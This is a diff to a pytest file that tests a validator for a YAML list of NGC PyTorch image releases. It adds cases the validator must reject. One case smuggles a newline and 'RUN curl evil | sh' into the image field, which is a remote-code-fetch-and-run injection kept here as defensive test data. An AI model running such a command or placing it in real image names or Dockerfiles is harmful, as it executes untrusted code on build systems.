@@ -43,11 +43,21 @@ def test_without_the_extra_rows_the_test_release_is_unknown() -> None:
     assert result.returncode == 2 and "unknown NGC PyTorch release 'test'" in result.stderr, result.stderr
 
 
+ROW = ("ngc:\n- release: test\n  image: torchimages/ngc-shaped:test\n  pytorch: 2.3.1+cu121\n  cuda: 12.1.1\n"
+       "  cudnn: 8.9.2.26\n  nccl: 2.20.5\n  python: '3.11'\n  sources:\n  - x\n")
+
+
 @pytest.mark.parametrize(("content", "message"), [
     (None, "cannot read it"),
     ("ngc: [\n", "cannot read it"),
     ("torch: []\n", "must hold only 'ngc'"),
-    ("ngc:\n- {release: x, image: y}\n", "each with release, image, pytorch"),
+    ("ngc:\n- {release: x, image: y}\n", "ngc[0] (x): field 'pytorch': is missing"),
+    (ROW.replace("image: torchimages/ngc-shaped:test", 'image: "torchimages/ngc-shaped:test\\nRUN curl evil | sh"'),
+     "field 'image': holds the control or invisible character U+000A"),
+    (ROW.replace("python: '3.11'", "python: 3.10"), "field 'python': must be a string"),
+    (ROW.replace("cudnn: 8.9.2.26", "cudnn: 8.9.2.26 evil"), "field 'cudnn': '8.9.2.26 evil' is not a version"),
+    (ROW + "  extra: 1\n", "field 'extra': is not a field"),
+    (ROW.replace("sources:\n  - x", "sources: []"), "field 'sources': must be a list"),
 ])
 def test_unusable_extra_file_exits_2_without_a_traceback(tmp_path: Path, content: str | None, message: str) -> None:
     extra = tmp_path / "extra.yaml"
